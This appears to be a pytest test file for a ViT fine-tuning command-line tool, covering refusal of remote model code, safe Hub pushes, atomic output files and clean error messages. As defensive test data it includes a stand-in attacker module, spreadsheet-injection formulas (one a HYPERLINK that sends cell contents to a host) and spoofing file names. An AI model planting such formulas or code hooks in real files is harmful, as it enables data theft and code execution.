"""Using and publishing a model is as safe as training one: no model code runs, a push publishes only what the run
wrote and survives a flaky Hub, output files are never half-written or replaced unasked, inputs are read once and
without hanging, and a user's mistake is a one-line error naming the value and the fix, never a traceback."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import numpy as np
import pytest

from runs import launch_and_kill
from test_output_dir import tmpfs  # noqa: F401 (a fixture)
from tiny import COLOURS, REPO, colour_image
from vit_finetune.cli import main


@pytest.fixture(scope="module")
def trained(args, tmp_path_factory) -> Path:
    from runs import train

    output = tmp_path_factory.mktemp("safety-io") / "run"
    assert train([*args, f"output_dir={output}"]) == 0
    return output


@pytest.fixture(scope="module")
def photo(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("one-photo") / "red.png"
    colour_image(COLOURS["red"], np.random.default_rng(5)).save(path)
    return path


def snapshot(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in folder.rglob("*") if p.is_file()}


def error_line(stderr: str) -> str:
    """The one `error: ...` line a refusal prints; a traceback fails the test."""
    assert "Traceback" not in stderr, stderr[-3000:]
    return next(line for line in reversed(stderr.splitlines()) if line.startswith("error: "))


# ---------------------------------------------------------------- 1. a model's own code never runs


def remote_code_repo(hub, repo_id: str, trained: Path, marker: Path) -> None:
    """A Hub repo holding the trained model, whose config.json maps the Auto classes to its own evil.py, which
    creates `marker` when imported: the stand-in for an attacker's code."""
    config = json.loads((trained / "config.json").read_text())
    config.update(model_type="evil-vit", auto_map={"AutoConfig": "evil.EvilConfig",
                                                     "AutoModelForImageClassification": "evil.EvilModel"})
    evil = (f"from pathlib import Path\nPath({str(marker)!r}).touch()\n"
            "from transformers import ViTConfig, ViTForImageClassification\n\n\n"
            "class EvilConfig(ViTConfig):\n    model_type = 'evil-vit'\n\n\n"
            "class EvilModel(ViTForImageClassification):\n    config_class = EvilConfig\n")
    hub.add_repo(repo_id, {"config.json": json.dumps(config), "evil.py": evil,
                           "model.safetensors": trained / "model.safetensors",
                           "preprocessor_config.json": trained / "preprocessor_config.json"})


@pytest.mark.parametrize("command", ["predict", "evaluate", "explain"])
def test_a_models_own_code_never_runs_even_when_stdin_says_yes(command, trained, photo, images, hub, hub_repo_id,
                                                              tmp_path, monkeypatch, capsys):
    marker = tmp_path / "remote-code-ran"
    remote_code_repo(hub, hub_repo_id, trained, marker)
    extra = {"predict": [str(photo)], "explain": [str(photo), "--output-dir", str(tmp_path / "ex")],
             "evaluate": ["--dataset", str(images), "--split", "validation"]}[command]
    # transformers asks "Do you wish to run the custom code? [y/N]" through input(), which reads sys.stdin: yes to all
    monkeypatch.setattr(sys, "stdin", io.StringIO("y\n" * 20))
    assert main([command, hub_repo_id, *extra]) == 1
    said = capsys.readouterr()
    error = error_line(said.err)
    assert "trust_remote_code" not in said.out and "[y/N]" not in said.out  # nothing asked
    assert hub_repo_id in error and "its own Python code" in error
    assert not marker.exists()
    assert not (tmp_path / "ex").exists()


def relabelled(trained: Path, folder: Path, labels: list[str], **config) -> Path:
    """A copy of the trained model whose config names other labels (and sets `config`): a model as another
    person may hand it over."""
    shutil.copytree(trained, folder)
    saved = json.loads((folder / "config.json").read_text())
    saved.update(id2label={str(i): label for i, label in enumerate(labels)},
                 label2id={label: i for i, label in enumerate(labels)}, **config)
    (folder / "config.json").write_text(json.dumps(saved))
    return folder


@pytest.mark.parametrize("command", ["predict", "explain"])
def test_an_auto_map_is_refused_even_on_a_built_in_model_type(command, trained, photo, tmp_path, capsys):
    auto_mapped = relabelled(trained, tmp_path / "mapped", ["red", "green", "blue"],
                             auto_map={"AutoModelForImageClassification": "evil.EvilModel"})
    extra = {"predict": [str(photo)], "explain": [str(photo), "--output-dir", str(tmp_path / "ex")]}[command]
    assert main([command, str(auto_mapped), *extra]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(auto_mapped) in error and "its own Python code" in error and "auto_map" in error
    assert not (tmp_path / "ex").exists()


def test_a_teacher_with_its_own_code_is_refused_without_advice_to_run_it(args, trained, tmp_path, capsys):
    teacher = relabelled(trained, tmp_path / "teacher", ["red", "green", "blue"], model_type="evil-vit",
                         auto_map={"AutoConfig": "evil.EvilConfig"})
    assert main([*args, f"output_dir={tmp_path / 'out'}", f"train.distill.teacher={teacher}"]) == 2
    error = error_line(capsys.readouterr().err)
    assert "train.distill.teacher" in error and "its own Python code" in error
    assert "trust_remote_code" not in error and "hf.co" not in error  # no advice to run it, no Hub address
    assert not (tmp_path / "out").exists()


# ---------------------------------------------------------------- 2. push publishes what the run wrote


def with_users_files(trained: Path, folder: Path) -> Path:
    """A copy of the finished run with a user's notes and folder beside its files."""
    shutil.copytree(trained, folder)
    (folder / "notes.txt").write_text("my private notes\n")
    (folder / "mydir").mkdir()
    (folder / "mydir" / "f").write_text("mine\n")
    return folder


def run_files(folder: Path) -> set[str]:
    """What the run wrote, as its manifest lists it (files under a listed folder included)."""
    from vit_finetune.core.run_lock import claimed

    listed = claimed(folder)
    return {str(p.relative_to(folder)) for p in folder.rglob("*")
            if p.is_file() and p.relative_to(folder).parts[0] in listed and not p.name.startswith(".")}


def test_push_uploads_only_the_files_the_run_wrote(trained, hub, hub_token, hub_repo_id, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_TOKEN", hub_token)
    folder = with_users_files(trained, tmp_path / "run")
    assert main(["push", str(folder), "--repo-id", hub_repo_id]) == 0
    pushed = set(hub.repo_files(hub_repo_id)) - {".gitattributes"}
    assert "notes.txt" not in pushed and "mydir/f" not in pushed
    assert pushed == run_files(folder) and "model.safetensors" in pushed


@pytest.mark.slow
def test_a_run_with_hub_push_uploads_only_the_files_it_wrote(args, hub, hub_token, hub_repo_id, tmp_path,
                                                             monkeypatch):
    from runs import train

    monkeypatch.setenv("HF_TOKEN", hub_token)
    out = tmp_path / "out"
    assert train([*args, "train.max_steps=2", f"output_dir={out}"]) == 0
    (out / "notes.txt").write_text("my private notes\n")
    (out / "mydir").mkdir()
    (out / "mydir" / "f").write_text("mine\n")
    assert train([*args, "train.max_steps=2", f"output_dir={out}", "overwrite=true", "hub.push=true",
                  f"hub.repo_id={hub_repo_id}"]) == 0
    pushed = set(hub.repo_files(hub_repo_id)) - {".gitattributes"}
    assert "notes.txt" not in pushed and "mydir/f" not in pushed
    assert pushed == run_files(out)
    assert (out / "notes.txt").read_text() == "my private notes\n"  # left where it was


# ---------------------------------------------------------------- 3. push and a flaky or stalled Hub

@pytest.fixture
def fast_retries(hub_token, monkeypatch):
    """In-process pushes with the token, the real back-off shortened (it sleeps 15 s in all) and a 2 s timeout."""
    from vit_finetune.artifacts import publish

    monkeypatch.setenv("HF_TOKEN", hub_token)
    monkeypatch.setenv("VIT_FINETUNE_HUB_TIMEOUT", "2")
    monkeypatch.setattr(publish, "RETRY_DELAYS", (0.05,) * 4)


# huggingface_hub itself tries preupload and the LFS batch call 6 times (sleeping 23 s in all): 6 resets there are
# a failure it gives up on; create and commit it sends once.
@pytest.mark.parametrize("route, resets", [(r"^/api/repos/create", 1), (r"/preupload/", 6),
                                           (r"\.git/info/lfs/objects/batch", 6), (r"/commit/", 1)],
                         ids=["create", "preupload", "lfs-batch", "commit"])
def test_push_survives_a_connection_reset(route, resets, trained, hub, hub_repo_id, fast_retries, capsys, monkeypatch):
    import functools

    import huggingface_hub._commit_api
    import huggingface_hub.lfs
    from huggingface_hub.utils import http_backoff

    # The library's own back-off shortened as ours is (it has no setting for it): the same 6 tries, 23 s less sleep.
    quick = functools.partial(http_backoff, base_wait_time=0.01, max_wait_time=0.01)
    for module in (huggingface_hub._commit_api, huggingface_hub.lfs):
        monkeypatch.setattr(module, "http_backoff", quick)
    hub.inject_faults(status=None, reset=True, times=resets, path_regex=route, method="POST")
    assert main(["push", str(trained), "--repo-id", hub_repo_id]) == 0
    assert "Traceback" not in capsys.readouterr().err
    tries = hub.requests(method="POST", path_regex=route)
    assert tries[0].faulted and sum(r.faulted for r in tries) == resets
    files = hub.repo_files(hub_repo_id)
    assert files["model.safetensors"] == (trained / "model.safetensors").read_bytes()


@pytest.mark.parametrize("options", [[], ["--private", "--space-app"]], ids=["plain", "private-with-app"])
def test_a_hub_that_keeps_resetting_gives_one_clear_line_and_the_command_to_push_again(options, trained, hub,
                                                                                      hub_repo_id, fast_retries, capsys):
    before = snapshot(trained)
    hub.inject_faults(status=None, reset=True, times=None, path_regex=r"/commit/", method="POST")
    assert main(["push", str(trained), "--repo-id", hub_repo_id, *options]) == 1
    error = error_line(capsys.readouterr().err)
    assert "connection error" in error
    assert f"The model is safe in {trained}: the local folder is intact" in error
    assert error.endswith(" ".join(["python -m vit_finetune push", str(trained), "--repo-id", hub_repo_id, *options]))
    assert len(hub.requests(method="POST", path_regex=r"/commit/")) == 5
    assert snapshot(trained) == before


def test_a_stalled_commit_times_out_and_is_retried(trained, hub, hub_repo_id, fast_retries, capsys):
    hub.inject_faults(status=None, delay=30, times=1, path_regex=r"/commit/", method="POST")
    start = time.monotonic()
    assert main(["push", str(trained), "--repo-id", hub_repo_id]) == 0
    assert time.monotonic() - start < 25  # the stalled request was given up, not waited out
    assert "push attempt 1 of 5 failed (the Hub did not answer within 2 s" in capsys.readouterr().out
    assert hub.repo_files(hub_repo_id)["model.safetensors"] == (trained / "model.safetensors").read_bytes()


def test_a_hub_that_always_stalls_ends_with_the_command_to_push_again(trained, hub, hub_repo_id, fast_retries,
                                                                     capsys, monkeypatch):
    monkeypatch.setenv("VIT_FINETUNE_HUB_TIMEOUT", "1")  # five stalled commits: 5 s of waiting, not 10
    hub.inject_faults(status=None, delay=10, times=None, path_regex=r"/commit/", method="POST")
    assert main(["push", str(trained), "--repo-id", hub_repo_id]) == 1
    error = error_line(capsys.readouterr().err)
    assert "timed out" in error and f"python -m vit_finetune push {trained} --repo-id {hub_repo_id}" in error


def test_a_timeout_that_is_not_a_number_is_refused(trained, hub_repo_id, fast_retries, monkeypatch, capsys):
    monkeypatch.setenv("VIT_FINETUNE_HUB_TIMEOUT", "soon")
    assert main(["push", str(trained), "--repo-id", hub_repo_id]) == 1
    assert "VIT_FINETUNE_HUB_TIMEOUT='soon'" in error_line(capsys.readouterr().err)


def test_a_run_with_a_malformed_timeout_stops_before_training(args, hub_repo_id, fast_retries, monkeypatch, tmp_path,
                                                              capsys):
    from runs import train

    monkeypatch.setenv("VIT_FINETUNE_HUB_TIMEOUT", "0")
    out = tmp_path / "out"
    assert train([*args, f"output_dir={out}", "hub.push=true", f"hub.repo_id={hub_repo_id}"]) == 1
    assert "VIT_FINETUNE_HUB_TIMEOUT='0'" in error_line(capsys.readouterr().err)
    assert not (out / "model.safetensors").exists()


def test_a_hub_that_speaks_no_xet_is_named_at_once_with_the_switch(trained, hub, hub_repo_id, fast_retries,
                                                                    monkeypatch, capsys):
    """With hf_xet installed and HF_HUB_DISABLE_XET unset, huggingface_hub asks the Hub for a Xet write token, which
    the loopback Hub answers 400; hf_xet reports that as a ConnectionError, which was retried five times."""
    import huggingface_hub.constants

    pytest.importorskip("hf_xet", reason="without hf_xet, huggingface_hub never uploads through Xet")
    # huggingface_hub reads HF_HUB_DISABLE_XET once, at import: what the variable's absence would have set.
    monkeypatch.setattr(huggingface_hub.constants, "HF_HUB_DISABLE_XET", False)
    assert main(["push", str(trained), "--repo-id", hub_repo_id]) == 1
    captured = capsys.readouterr()
    error = error_line(captured.err)
    assert "after 1 attempt(s) (the Hub answered 400 Bad Request to hf_xet's request" in error, error
    assert "xet-write-token" in error and "set HF_HUB_DISABLE_XET=1" in error
    assert "push attempt" not in captured.out and "ConnectionError" not in error
    assert len(hub.requests(path_regex=r"/xet-write-token/")) == 1


@pytest.mark.slow
def test_the_documented_offline_push_reaches_the_loopback_hub_started_on_its_own(trained, tmp_path):
    """docs/hub.md's commands as written, the port aside (any free one): the server from `python -m hub_server`,
    then a push with the variables the page exports."""
    page = REPO / "docs" / "hub.md"
    section = page.read_text().split("## Trying a push offline")[1]
    commands = [line.split("#")[0].strip() for line in section.split("```")[1].splitlines()[1:] if line.strip()]
    start, exported, push = commands[:3]
    assert start.startswith("PYTHONPATH=tests python -m hub_server") and push.startswith("python -m vit_finetune push")
    env = {**os.environ, "PYTHONPATH": str(REPO / "tests")}
    server = subprocess.Popen([sys.executable, "-m", "hub_server", "--port", "0", "--storage", str(tmp_path / "hub")],
                              cwd=REPO, env=env, stdout=subprocess.PIPE, text=True)
    try:
        url = server.stdout.readline().split(" on ")[1].split(";")[0]
        variables = dict(pair.split("=", 1) for pair in exported.removeprefix("export ").split())
        assert variables.keys() == {"HF_ENDPOINT", "HF_TOKEN", "HF_HUB_DISABLE_XET"}
        variables["HF_ENDPOINT"] = url
        repo_id = push.split("--repo-id ")[1].split()[0]
        pushed = subprocess.run([sys.executable, "-m", "vit_finetune", "push", str(trained), "--repo-id", repo_id],
                                cwd=REPO, env={**os.environ, "PYTHONPATH": str(REPO), **variables},
                                capture_output=True, text=True, timeout=300)
        assert pushed.returncode == 0, pushed.stderr[-2000:]
        assert f"pushed to {url}/{repo_id}/commit/" in pushed.stdout
    finally:
        server.terminate()
        server.wait(timeout=30)


# ---------------------------------------------------------------- 4. output files: whole or not at all


def many_photos(folder: Path, count: int) -> Path:
    folder.mkdir(parents=True)
    rng = np.random.default_rng(0)
    for index in range(count):
        colour_image(COLOURS["red" if index % 2 else "blue"], rng).save(folder / f"{index:03d}.png")
    return folder


def test_predict_killed_mid_write_leaves_no_partial_output(trained, warm_launcher, tmp_path):
    photos = many_photos(tmp_path / "photos", 300)
    output = tmp_path / "preds.csv"
    written = []

    def writing(_stdout: str) -> bool:
        written.extend(p for p in tmp_path.iterdir() if p.name.endswith("preds.csv") and p.stat().st_size > 200)
        return bool(written)

    killed = launch_and_kill(warm_launcher, ["predict", str(trained), str(photos), "--output", str(output),
                                             "--batch-size", "1"], None, writing, tmp_path / "predict.log", timeout=120)
    assert written and killed.returncode == -signal.SIGKILL, "predict finished or never wrote before it was killed"
    assert not output.exists()  # no valid-looking CSV holding part of the rows


def test_predict_refuses_to_replace_an_existing_output_unless_asked(trained, photo, tmp_path, capsys):
    output = tmp_path / "preds.csv"
    output.write_text("my own spreadsheet\n")
    assert main(["predict", str(trained), str(photo), "--output", str(output)]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(output) in error and "--overwrite" in error
    assert output.read_text() == "my own spreadsheet\n"
    assert main(["predict", str(trained), str(photo), "--output", str(output), "--overwrite"]) == 0
    rows = list(csv.DictReader(output.open()))
    assert [row["image"] for row in rows] == [str(photo)]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["preds.csv"]  # no temporary file left


def test_an_error_mid_predict_leaves_the_existing_output_as_it_was(trained, photo, tmp_path, monkeypatch, capsys):
    from vit_finetune.serving import prediction

    output = tmp_path / "preds.jsonl"
    output.write_text('{"earlier": "results"}\n')

    def failing_rows(*args, **kwargs):  # stands for a failure after the file is opened (a device error, Ctrl-C)
        yield {"image": "x.png", "error": None, "predictions": []}
        raise KeyboardInterrupt

    monkeypatch.setattr(prediction, "predict_rows", failing_rows)
    assert main(["predict", str(trained), str(photo), "--output", str(output), "--overwrite"]) == 130
    assert capsys.readouterr().err.strip().splitlines()[-1] == "stopped by Ctrl-C"  # one line, no traceback
    assert output.read_text() == '{"earlier": "results"}\n'
    assert sorted(p.name for p in tmp_path.iterdir()) == ["preds.jsonl"]


def test_evaluate_refuses_to_replace_a_users_metrics_unless_asked(trained, tmp_path, capsys):
    folder = tmp_path / "eval"
    folder.mkdir()
    (folder / "metrics.json").write_text('{"mine": 1}')
    assert main(["evaluate", str(trained), "--output-dir", str(folder)]) == 1
    error = error_line(capsys.readouterr().err)
    assert "metrics.json" in error and "--overwrite" in error
    assert sorted(p.name for p in folder.iterdir()) == ["metrics.json"]
    assert (folder / "metrics.json").read_text() == '{"mine": 1}'
    assert main(["evaluate", str(trained), "--output-dir", str(folder), "--overwrite"]) == 0
    assert json.loads((folder / "metrics.json").read_text())["accuracy"] >= 0
    assert {"confusion_matrix.png", "misclassified.png"} <= {p.name for p in folder.iterdir()}


FORMULAS = ['=HYPERLINK("http://127.0.0.1/x?"&A1,"click")', "+1+1", "-2+3", "@SUM(1)"]


@pytest.mark.parametrize("kind", ["single-label", "multi-label"])
def test_no_cell_of_predicts_csv_runs_as_a_spreadsheet_formula(kind, trained, tmp_path, monkeypatch):
    config = {"problem_type": "multi_label_classification", "label_thresholds": dict.fromkeys(FORMULAS[:3], 0.0)} \
        if kind == "multi-label" else {}
    model = relabelled(trained, tmp_path / "model", FORMULAS[:3], **config)
    monkeypatch.chdir(tmp_path)
    for name in ("=1+2.png", "@cmd.png", "plain.png"):  # relative names: the image column starts with them
        colour_image(COLOURS["red"], np.random.default_rng(2)).save(tmp_path / name)
    assert main(["predict", str(model), "=1+2.png", "@cmd.png", "plain.png", "--output", "p.csv", "--top-k", "3"]) == 0
    rows = list(csv.reader((tmp_path / "p.csv").open(newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))], cells
    assert [row[0] for row in rows[1:]] == ["'=1+2.png", "'@cmd.png", "plain.png"]  # text, nothing else changed
    if kind == "single-label":
        assert sorted(cell for row in rows[1:] for cell in row[2::2]) == sorted(["'" + label for label in FORMULAS[:3]] * 3)
    else:  # every label is over its threshold of 0: one cell per image, its labels joined by ';'
        assert all(row[2].startswith("'") and sorted(row[2][1:].split(";")) == sorted(FORMULAS[:3]) for row in rows[1:])


def test_negative_values_in_predicts_csv_stay_numbers_and_a_formula_named_target_stays_inert(trained, photo, tmp_path):
    import pandas

    # The trained model's three outputs read as three regression targets around -100: every predicted value negative.
    model = relabelled(trained, tmp_path / "model", ["-2+3", "weight", "depth"], problem_type="regression",
                       target_mean=[-100.0] * 3, target_std=[1.0] * 3, regression_loss="mse")
    assert main(["predict", str(model), str(photo), "--output", str(tmp_path / "p.csv")]) == 0
    table = pandas.read_csv(tmp_path / "p.csv")
    assert list(table.columns) == ["image", "error", "'-2+3", "weight", "depth"]
    values = table[["'-2+3", "weight", "depth"]]
    assert all(dtype == "float64" for dtype in values.dtypes) and (values < -90).all().all(), table


@pytest.mark.parametrize("read", ["the label file", "an image"])
def test_predict_never_writes_its_output_over_a_file_it_reads(read, trained, tmp_path, capsys):
    from tiny import write_label_sets

    label_file = write_label_sets(tmp_path / "data", images=4)
    image = tmp_path / "data" / "images" / "0.png"
    (tmp_path / "link.csv").symlink_to(label_file)
    before = {path: path.read_bytes() for path in (label_file, image)}
    if read == "the label file":  # through a link: the same file
        command = ["--dataset", str(label_file), "--split", "train", "--output", str(tmp_path / "link.csv")]
    else:
        command = [str(label_file), str(image), "--output", str(label_file)]
    assert main(["predict", str(trained), *command, "--overwrite"]) == 1
    error = error_line(capsys.readouterr().err)
    assert "a file this command reads" in error and "another --output" in error
    assert {path: path.read_bytes() for path in before} == before


def fill(disk: Path) -> None:
    """Fill the (small tmpfs) disk with a file of the user's."""
    with open(disk / "filler", "wb", buffering=0) as filler:
        try:
            while True:
                filler.write(b"\0" * 4096)
        except OSError:
            pass


def test_predict_and_explain_on_a_full_disk_leave_no_partial_file_and_say_why(trained, photo, tmpfs, capsys):
    disk = tmpfs(512)
    output = disk / "preds.csv"
    output.write_text("my own spreadsheet\n")
    (disk / "ex").mkdir()
    fill(disk)
    assert main(["predict", str(trained), str(photo), "--output", str(output), "--overwrite"]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(output) in error and "No space left on device" in error, error
    assert output.read_text() == "my own spreadsheet\n"
    assert main(["explain", str(trained), str(photo), "--output-dir", str(disk / "ex")]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(disk / "ex") in error and "No space left on device" in error, error
    assert sorted(p.name for p in disk.rglob("*")) == ["ex", "filler", "preds.csv"]  # no empty or partial picture


def test_evaluate_that_fails_midway_leaves_the_earlier_pictures_and_metrics_as_they_were(trained, tmpfs, tmp_path,
                                                                                       capsys):
    assert main(["evaluate", str(trained), "--output-dir", str(tmp_path / "first")]) == 0
    folder = tmpfs(2048) / "eval"
    shutil.copytree(tmp_path / "first", folder)
    fill(folder.parent)  # the disk fills up before the next evaluate
    before = snapshot(folder)
    assert main(["evaluate", str(trained), "--output-dir", str(folder), "--overwrite"]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(folder) in error and "No space left on device" in error, error
    assert snapshot(folder) == before  # every picture whole, as the earlier evaluation left it; no partial file


# ---------------------------------------------------------------- 5. globs over looping links


@pytest.mark.timeout(120)  # a glob that follows the loops never ends: the test fails instead of hanging
def test_a_glob_over_self_links_ends_and_reads_each_file_once(trained, tmp_path):
    tree = tmp_path / "L"
    many_photos(tree / "sub", 3)
    (tree / "loop").symlink_to(".")
    (tree / "sub" / "back").symlink_to("..")
    output = tmp_path / "p.csv"
    assert main(["predict", str(trained), str(tree / "**" / "*.png"), "--output", str(output)]) == 0
    names = [row["image"] for row in csv.DictReader(output.open())]
    assert sorted(Path(name).resolve() for name in names) == sorted((tree / "sub").glob("*.png"))
    # explain gathers its images the same way
    assert main(["explain", str(trained), str(tree / "**" / "*.png"), "--output-dir", str(tmp_path / "ex")]) == 0
    assert len(list((tmp_path / "ex").rglob("*.png"))) == 3


# ---------------------------------------------------------------- 6. silently wrong answers


@pytest.mark.parametrize("command", ["predict", "evaluate"])
@pytest.mark.parametrize("size", ["-3", "0"])
def test_a_batch_size_below_one_is_refused(command, size, trained, photo, capsys):
    extra = [str(photo)] if command == "predict" else []
    with pytest.raises(SystemExit) as exit:  # argparse's own refusal: usage, then the error, exit code 2
        main([command, str(trained), *extra, "--batch-size", size])
    assert exit.value.code == 2
    error = capsys.readouterr().err
    assert "Traceback" not in error and f"argument --batch-size: {size} is below 1" in error


def test_explain_gives_same_named_images_of_two_folders_two_pictures(trained, tmp_path):
    for folder, colour in (("a", "red"), ("b", "blue"), ("c", "green")):
        (tmp_path / "in" / folder).mkdir(parents=True)
    colour_image(COLOURS["red"], np.random.default_rng(1)).save(tmp_path / "in" / "a" / "x.png")
    colour_image(COLOURS["blue"], np.random.default_rng(2)).save(tmp_path / "in" / "b" / "x.png")
    colour_image(COLOURS["green"], np.random.default_rng(3)).save(tmp_path / "in" / "c" / "0000-x.png")
    assert main(["explain", str(trained), str(tmp_path / "in"), "--output-dir", str(tmp_path / "ex")]) == 0
    pictures = sorted(str(p.relative_to(tmp_path / "ex")) for p in (tmp_path / "ex").rglob("*.png"))
    assert pictures == ["a/x.rollout.png", "b/x.rollout.png", "c/0000-x.rollout.png"]
    hashes = {hashlib.sha256((tmp_path / "ex" / p).read_bytes()).hexdigest() for p in pictures}
    assert len(hashes) == 3


def test_explain_replaces_a_picture_it_would_write_only_with_overwrite(trained, photo, tmp_path, capsys):
    out = tmp_path / "ex"
    out.mkdir()
    users = out / f"{photo.stem}.rollout.png"
    users.write_bytes(b"the user's own picture")
    assert main(["explain", str(trained), str(photo), "--output-dir", str(out)]) == 1
    error = error_line(capsys.readouterr().err)
    assert users.name in error and "--overwrite" in error, error
    assert users.read_bytes() == b"the user's own picture"
    assert main(["explain", str(trained), str(photo), "--output-dir", str(out), "--overwrite"]) == 0
    assert users.read_bytes().startswith(b"\x89PNG")


# ---------------------------------------------------------------- 7. messages, not tracebacks


def test_predict_output_naming_a_folder_or_a_missing_folder(trained, photo, tmp_path, capsys):
    assert main(["predict", str(trained), str(photo), "--output", str(tmp_path)]) == 1
    assert "is a folder" in error_line(capsys.readouterr().err)
    (tmp_path / "dir.csv").mkdir()
    assert main(["predict", str(trained), str(photo), "--output", str(tmp_path / "dir.csv")]) == 1
    assert "is a folder" in error_line(capsys.readouterr().err)
    missing = tmp_path / "no" / "such" / "p.csv"
    assert main(["predict", str(trained), str(photo), "--output", str(missing)]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(missing.parent) in error and "does not exist" in error
    assert not (tmp_path / "no").exists()


@pytest.fixture(scope="module")
def truncated(trained, tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("truncated") / "run"
    shutil.copytree(trained, folder)
    weights = folder / "model.safetensors"
    weights.write_bytes(weights.read_bytes()[: weights.stat().st_size // 2])
    return folder


@pytest.mark.parametrize("command", ["predict", "evaluate", "explain"])
def test_a_truncated_model_file_is_a_clear_error(command, truncated, photo, tmp_path, capsys):
    extra = {"predict": [str(photo)], "evaluate": [], "explain": [str(photo), "--output-dir", str(tmp_path / "e")]}
    assert main([command, str(truncated), *extra[command]]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(truncated) in error and "model.safetensors" in error


@pytest.mark.parametrize("top_k", ["0", "-1"])
def test_explain_top_k_below_one_is_refused(top_k, trained, photo, tmp_path, capsys):
    with pytest.raises(SystemExit) as exit:
        main(["explain", str(trained), str(photo), "--top-k", top_k, "--output-dir", str(tmp_path / "e")])
    assert exit.value.code == 2
    error = capsys.readouterr().err
    assert "Traceback" not in error and f"argument --top-k: {top_k} is below 1" in error
    assert not (tmp_path / "e").exists()


def test_explain_output_dir_naming_a_file(trained, photo, tmp_path, capsys):
    taken = tmp_path / "taken"
    taken.write_text("mine")
    assert main(["explain", str(trained), str(photo), "--output-dir", str(taken)]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(taken) in error and "not a folder" in error
    assert taken.read_text() == "mine"


@pytest.mark.timeout(120)  # reading a FIFO blocks until a writer comes: the test fails instead of hanging
@pytest.mark.parametrize("command", ["predict", "explain", "export"])
def test_a_named_fifo_is_refused_not_read(command, trained, tmp_path, capsys):
    fifo = tmp_path / "camera.png"
    os.mkfifo(fifo)
    argv = {"predict": ["predict", str(trained), str(fifo)],
            "explain": ["explain", str(trained), str(fifo), "--output-dir", str(tmp_path / "ex")],
            "export": ["export", str(trained), "--onnx", "--output", str(tmp_path / "onnx"), "--images", str(fifo)]}
    assert main(argv[command]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(fifo) in error and "not a regular file" in error
    assert sorted(p.name for p in tmp_path.iterdir()) == ["camera.png"]


def graph_with_input(name: str, path: Path) -> None:
    """A valid ONNX graph (logits = its input) whose input is named `name`."""
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("Identity", [name], ["logits"])], "renamed",
                              [helper.make_tensor_value_info(name, TensorProto.FLOAT, ["batch", 3])],
                              [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["batch", 3])])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))


@pytest.mark.parametrize("damage", ["random bytes", "a renamed input"])
def test_a_damaged_or_foreign_onnx_graph_is_a_clear_error(damage, trained, photo, tmp_path, capsys):
    pytest.importorskip("onnxruntime", reason="the [onnx] extra is not installed (pip install -e .[dev] installs it)")
    folder = tmp_path / "onnx"
    folder.mkdir()
    for name in ("config.json", "preprocessor_config.json"):
        shutil.copy(trained / name, folder / name)
    if damage == "random bytes":
        (folder / "model.onnx").write_bytes(np.random.default_rng(0).bytes(4096))
    else:
        graph_with_input("pixels", folder / "model.onnx")
    assert main(["predict", str(folder), str(photo), "--runtime", "onnx"]) == 1
    error = error_line(capsys.readouterr().err)
    assert str(folder / "model.onnx") in error and f"export MODEL --onnx --output {folder}" in error
    assert ("['pixels']" in error) == (damage == "a renamed input")


def test_a_path_component_too_long_for_the_filesystem(trained, photo, capsys):
    long = "/tmp/" + "x" * 300 + ".png"
    assert main(["predict", str(trained), long]) == 1
    error = error_line(capsys.readouterr().err)
    assert "too long" in error


LONG = "/tmp/" + "x" * 300


@pytest.mark.parametrize("command, named", [
    (["predict", LONG, "{photo}"], "the model"), (["evaluate", LONG], "the model"),
    (["explain", LONG, "{photo}"], "the model"), (["push", LONG, "--repo-id", "user/long"], "the run folder"),
    (["predict", "{trained}", "--dataset", LONG], "--dataset"),
    (["evaluate", "{trained}", "--dataset", LONG, "--split", "validation"], "--dataset")],
    ids=["predict-model", "evaluate-model", "explain-model", "push-folder", "predict-dataset", "evaluate-dataset"])
def test_a_model_or_dataset_path_too_long_for_the_filesystem(command, named, trained, photo, tmp_path, capsys):
    argv = [part.format(photo=photo, trained=trained) for part in command]
    assert main(argv) == 1
    error = error_line(capsys.readouterr().err)
    assert error.startswith(f"error: {named} '/tmp/xxx") and ("too long" in error or "255" in error), error


def test_a_newline_in_a_file_name_cannot_spoof_predict_output(trained, tmp_path, capsys):
    name = "cat.png\n  0.9999  dog"
    colour_image(COLOURS["red"], np.random.default_rng(1)).save(tmp_path / name, format="PNG")
    assert main(["predict", str(trained), str(tmp_path / name)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert not any(line.strip() == "0.9999  dog" for line in lines)
    assert lines[0] == str(tmp_path / "cat.png\\n  0.9999  dog")
